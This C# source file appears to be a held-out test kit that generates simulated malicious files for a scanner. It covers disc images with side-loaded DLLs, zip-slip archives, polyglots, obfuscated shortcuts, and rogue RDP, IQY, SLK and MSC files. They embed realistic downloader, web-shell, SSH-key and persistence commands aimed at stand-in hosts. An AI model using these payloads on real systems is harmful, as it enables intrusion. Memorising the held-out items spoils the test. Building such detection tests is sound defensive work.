using System.Text;
using ScanHost.TestKit.HeldOut.Fourth;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Fifth;

/// <summary>Disc images with an honest program and a library of strangers beside it.</summary>
public sealed class DiscWithSideLoad : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var host = new PeBuilder().Importing("KERNEL32.dll", "CreateFileW", "HeapAlloc").Importing("WTSAPI32.dll", "WTSFreeMemory").Build();
        yield return ("BMW_sale_2026.iso", DiscImage.Build("BMW", ("bmw1.png.lnk", false, new LinkBuilder().To(@"C:\Windows\System32\cmd.exe").With("/c start $Recycle.Bin\\windoc.exe && bmw1.png").Icon(@"%SystemRoot%\System32\imageres.dll").Build()), ("windoc.exe", true, host), ("APPVISVSUBSYSTEMS64.dll", true, new PeBuilder().Exporting("AppvIsvSubsystems64.dll", "IsProcessHooked", "RequestUnhookedFunctionList").Importing("kernel32.dll", "VirtualAlloc", "VirtualProtect", "CreateThread", "LoadLibraryA").WithData("https://api.notion-cdn.example/v1/databases\0").Build()), ("ojg2.px", true, Filler.Noise(601, 30000)), ("bmw1.png", true, InertFiles.Png(640, 480))));
        yield return ("DHL_AWB_8837110.img", DiscImage.Build("AWB", ("DHL_AWB_8837110.js", false, Dos("var f=new ActiveXObject('Scripting.FileSystemObject');var d=f.GetParentFolderName(WScript.ScriptFullName);new ActiveXObject('Shell.Application').ShellExecute('regsvr32.exe','/s \"'+d+'\\\\102755.dat\"','','open',0);")), ("102755.dat", true, new PeBuilder().Exporting("102755.dll", "DllRegisterServer").Importing("kernel32.dll", "VirtualAllocEx", "WriteProcessMemory", "CreateProcessW").WithCode([0xC3, .. Filler.Noise(602, 40000)]).Build())));
        yield return ("Presupuesto_obra.iso", DiscImage.Build("PRESUPUESTO", ("Presupuesto_obra.cmd", false, Dos("@echo off\ncd /d %~dp0\nstart \"\" presupuesto.pdf\ncopy /y libcurl.dll %localappdata%\\Packages\\ >nul\nstart /b VGAuthService.exe --quiet\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v VGAuth /d %localappdata%\\Packages\\VGAuthService.exe /f >nul")), ("VGAuthService.exe", true, host), ("libcurl.dll", true, new PeBuilder().Exporting("libcurl.dll", "curl_easy_init", "curl_easy_perform").Importing("ntdll.dll", "NtAllocateVirtualMemory", "NtProtectVirtualMemory", "NtCreateThreadEx").Build()), ("presupuesto.pdf", true, PdfBuilder.Document())));
        yield return ("Zoom_Rooms.iso", DiscImage.Build("ZOOM", ("setup.exe", false, new PeBuilder().WithCode([0xC3, .. Filler.Noise(603, 80000)], 0xE0000020, ".packed").Importing("kernel32.dll", "GetProcAddress", "LoadLibraryA", "VirtualAlloc").Build()), ("autorun.inf", true, Dos("[autorun]\nopen=setup.exe\naction=Open folder to view files\nicon=%SystemRoot%\\system32\\shell32.dll,4\nshell\\open\\command=setup.exe\n")), ("readme.url", true, Dos("[InternetShortcut]\nURL=https://zoom.rooms-dl.example/"))));
    }
}

/// <summary>Archives whose members want to land elsewhere.</summary>
public sealed class ArchiveThatClimbs : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var link = new LinkBuilder().To(@"C:\Windows\System32\rundll32.exe").With("%LOCALAPPDATA%\\msedge.dll,Entry").Build();
        yield return ("CV_Eli_Rosenfeld.rar", RarBuilder.Rar5(@"Eli_Rosenfeld_CV.pdf:..\..\..\..\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\Updater.lnk", link));
        yield return ("theme.zip", InertFiles.Zip(("theme/style.css", Utf8("body{margin:0}")), ("../../../../../../var/www/html/uploads/.cache.php", Utf8("<?php /* placeholder */ @eval($_POST['k'])")), ("../../../../etc/cron.d/theme", Utf8("* * * * * root curl -s https://theme.zip-slip.example/c | sh\n"))));
        yield return ("dataset.tar.gz", Tarball.Gzipped(("data/train.csv", Utf8("a,b\n1,2\n")), ("../../../../home/user/.ssh/authorized_keys", Utf8("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExample99 ops@kali\n")), ("../../../../home/user/.bashrc", Utf8("(curl -fs https://data.tar-up.example/rc|bash &) 2>/dev/null\n"))));
        yield return ("trading_signals.rar", RarBuilder.Rar4("trading_signals.pdf \\trading_signals.pdf .cmd", Dos("@echo off\nif not DEFINED IS_MINIMIZED set IS_MINIMIZED=1 && start \"\" /min \"%~dpnx0\" %* && exit\ncd %TEMP%\nfor /F \"delims=\" %%K in ('dir /b /s \"trading_signals.rar\"') do for /F \"delims=\" %%G in ('dir /b /s \"weakicon.com\"') do start \"\" \"%%G\"\nexit\n")));
    }
}

/// <summary>Files that are two things at once.</summary>
public sealed class FileOfTwoKinds : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var script = InertFiles.Zip(("SHIPPING_INV_PL_BL.pdf.vbs", Dos("On Error Resume Next\nSet s = CreateObject(\"Shell.Application\")\ns.ShellExecute \"powershell\", \"-w hidden iwr https://ship.concat-zip.example/x -o $env:temp\\x.exe; saps $env:temp\\x.exe\", \"\", \"open\", 0\n")));
        yield return ("SHIPPING_INV_PL_BL.zip", [.. InertFiles.Zip(("readme.pdf", PdfBuilder.Document())), .. script]);
        yield return ("holiday_photo.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xDB, 0, 67, 0, .. new byte[64], .. Filler.Noise(610, 18000).Select(value => (byte)(value & 0x7F)), 0xFF, 0xD9, .. "<<BASE64_START>>"u8, .. Encoding.ASCII.GetBytes(Backwards(Convert.ToBase64String(InertFiles.Pe(8192)))), .. "<<BASE64_END>>"u8]);
        yield return ("Invoice_view.pdf", [.. PdfBuilder.Document(), .. Dos("\n<script language=\"VBScript\">\nSet w = CreateObject(\"WScript.Shell\")\nw.Run \"mshta https://pdf.two-kinds.example/h\", 0\nself.close\n</script>\n")]);
        yield return ("product_demo.gif", [.. "GIF89a"u8, 1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255, (byte)'!', 0xFE, 60, .. Encoding.ASCII.GetBytes("<?php if(isset($_REQUEST['c'])){@system($_REQUEST['c']) ?>".PadRight(60)), 0, (byte)',', 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, (byte)';']);
    }
}

/// <summary>Archives in archives, and members with names that lie.</summary>
public sealed class ArchiveWithinArchive : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Fattura.zip", InertFiles.Zip(("Fattura.zip", InertFiles.Zip(("Fattura.zip", InertFiles.Zip(("Documento_PDF.wsf", Dos("<package><job><script language=\"VBScript\">\nx = Array(@@)\nFor Each v In x: s = s & Chr(v): Next\nExecute s\n</script></job></package>".Replace("@@", Codes("CreateObject(\"WScript.Shell\").Run \"powershell iex(irm https://fatt.nest-zip.example/1)\",0"), StringComparison.Ordinal)))))))));
        yield return ("New Purchase Order.tar.gz", Tarball.Gzipped(("New Purchase Order" + new string(' ', 70) + ".scr", new PeBuilder().WithCode([0xC3, .. Filler.Noise(620, 70000)]).Importing("kernel32.dll", "VirtualAlloc", "GetThreadContext", "SetThreadContext", "ResumeThread").Build())));
        yield return ("Photo_2026.rar", RarBuilder.Rar4("IMG_20261101.jpeg.pif", NetImage.Build("IMG", "a.b", ["System.Reflection/Assembly/Load", "System.Net/WebClient/DownloadData", "System.Reflection/MethodBase/Invoke"], ["https://img.pif-host.example/Ofbkf.mp4", "Ofbkf.Class", "Reverse"])));
        yield return ("Documents.gz", InertFiles.Gzip(InertFiles.Zip(("Skany\u202Egpj.cpl", new PeBuilder().Exporting("skany.cpl", "CPlApplet").Importing("kernel32.dll", "WinExec").Importing("urlmon.dll", "URLDownloadToFileA").WithData("https://scan.cpl-host.example/s.exe\0rundll32 shell32.dll,Control_RunDLL\0").Build()))));
    }
}

/// <summary>Shortcuts that pad, hide or carry.</summary>
public sealed class ShortcutThatHides : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Meeting agenda EU-NATO.lnk", new LinkBuilder().To(@"C:\Windows\System32\cmd.exe").With(string.Concat(Enumerable.Repeat("\t\n\u000B\r ", 60)) + "/c powershell -w 1 -c \"$f=(gci $env:TEMP -r -filter 'Meeting agenda*.lnk')[0];$b=[IO.File]::ReadAllBytes($f);[IO.File]::WriteAllBytes(\"\"$env:TEMP\\a.tar\"\",$b[3000..9000]);tar -xf $env:TEMP\\a.tar -C $env:TEMP;saps $env:TEMP\\cnmpaui.exe\"").Icon(@"%ProgramFiles(x86)%\Microsoft\Edge\Application\msedge.exe").Append(Tarball.Plain(("cnmpaui.exe", InertFiles.Pe(2048)), ("cnmplog.dat", Filler.Noise(630, 3000)))).Build());
        yield return ("연구자료 요청.hwp.lnk", new LinkBuilder().To(@"C:\Windows\SysWOW64\cmd.exe").With("/k for /f \"tokens=*\" %a in ('dir C:\\Windows\\SysWow64\\WindowsPowerShell\\v1.0\\*rshell.exe /s /b /od') do call %a \"$d=Get-Location;$l=Get-ChildItem -Path $d -Recurse *.lnk|where-object {$_.length -eq 0x18C0A26}|Select-Object -ExpandProperty FullName;$s=New-Object IO.FileStream($l,'Open','Read');$s.Seek(0x1A40,0);\"&&exit").Icon(@"C:\Program Files (x86)\Hnc\Office 2020\HOffice110\Bin\Hwp.exe").Append(Filler.Noise(631, 60000)).Build());
        yield return ("Q3 bonus.pdf.lnk", new LinkBuilder().To(@"C:\Windows\System32\OpenSSH\ssh.exe").With("-o ProxyCommand=\"powershell powershell -Command ('m]]]]sh]ta h]ttp]s://bon]us.ssh-lnk.exam]ple/q.mp4]' -replace ']')\" .").Icon(@"%SystemRoot%\System32\imageres.dll").From("desktop-qaz1wsx").Build());
        yield return ("Invoice.lnk", new LinkBuilder().To(@"C:\Windows\System32\forfiles.exe").With("/p C:\\Windows /m write.exe /c \"cmd /c p^ow^ers^hell . mshta http://203.0.113.90/inv/doc.hta\"").Icon(@"C:\Windows\System32\imageres.dll").Environment(@"%windir%\System32\forfiles.exe").Build());
    }
}

/// <summary>Small files that Windows opens without asking much.</summary>
public sealed class SmallFileThatReachesOut : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("AWS IAM Compliance Check.rdp", Utf16("full address:s:eu-north-1-aws.ua-gov.example\nserver port:i:443\nredirectclipboard:i:1\nredirectprinters:i:1\nredirectsmartcards:i:1\nredirectwebauthn:i:1\ndrivestoredirect:s:*\nremoteapplicationmode:i:1\nremoteapplicationname:s:AWS Secure Storage Connection Stability Test v24091285697854\nremoteapplicationprogram:s:%windir%\\system32\\mshta.exe\nremoteapplicationcmdline:s:https://eu-north-1-aws.ua-gov.example/t\nauthentication level:i:0\nprompt for credentials:i:0\npromptcredentialonce:i:0\nsigncope:s:Full Address\n"));
        yield return ("Price_List.iqy", Dos("WEB\n1\nhttps://iqy.price-feed.example/2.dat\n\nSelection=AllTables\nFormatting=None\nPreFormattedTextToColumns=True\nConsecutiveDelimitersAsOne=True\nSingleBlockTextImport=False\n=cmd|' /c powershell iex(irm https://iqy.price-feed.example/s)'!A0\n"));
        yield return ("Orders.slk", Dos("ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;EEXEC(\"CMD.EXE /C powershell -w hidden -c iwr https://slk.order-link.example/o -o %TEMP%\\o.exe & %TEMP%\\o.exe\")\nC;X1;Y102;K0;EHALT()\nE\n"));
        yield return ("Printer_Driver_Fix.msc", Utf8(Fill("""
<?xml version="1.0"?>
<MMC_ConsoleFile ConsoleVersion="3.0" ProgramMode="UserSDI"><ConsoleFileID>a7bf8102-12e1-4226-aa6a-2ba71f6249d0</ConsoleFileID>
<FrameState ShowStatusBar="false"><WindowPlacement ShowCommand="SW_HIDE"/></FrameState>
<ScopeTree><Nodes><Node ID="1" CLSID="{C96401CC-0E17-11D3-885B-00C04F72C717}"><ComponentDatas/><Properties><Property Name="URL"><String ID="8"/></Property></Properties></Node></Nodes></ScopeTree>
<StringTables><StringTable><GUID>{71E5B33E-1064-11D2-808F-0000F875A9CE}</GUID><Strings><String ID="1" Refs="1">Favorites</String>
<String ID="8" Refs="2">res://apds.dll/redirect.html?target=javascript:eval(external.Document.ScopeNamespace.GetRoot().Name)</String>
<String ID="23" Refs="2">@@1</String></Strings></StringTable></StringTables></MMC_ConsoleFile>
""", "var scopeNamespace=external.Document.ScopeNamespace;var x=unescape(&quot;" + Uri.EscapeDataString("<?xml version='1.0'?><stylesheet><ms:script implements-prefix='user' language='VBScript'>Set o=CreateObject(\"WScript.Shell\"):o.Run \"powershell irm https://msc.console-fix.example/d|iex\",0</ms:script></stylesheet>") + "&quot;);var xml=new ActiveXObject('Microsoft.XMLDOM');xml.loadXML(x);xml.transformNode(xml)")));
    }
}
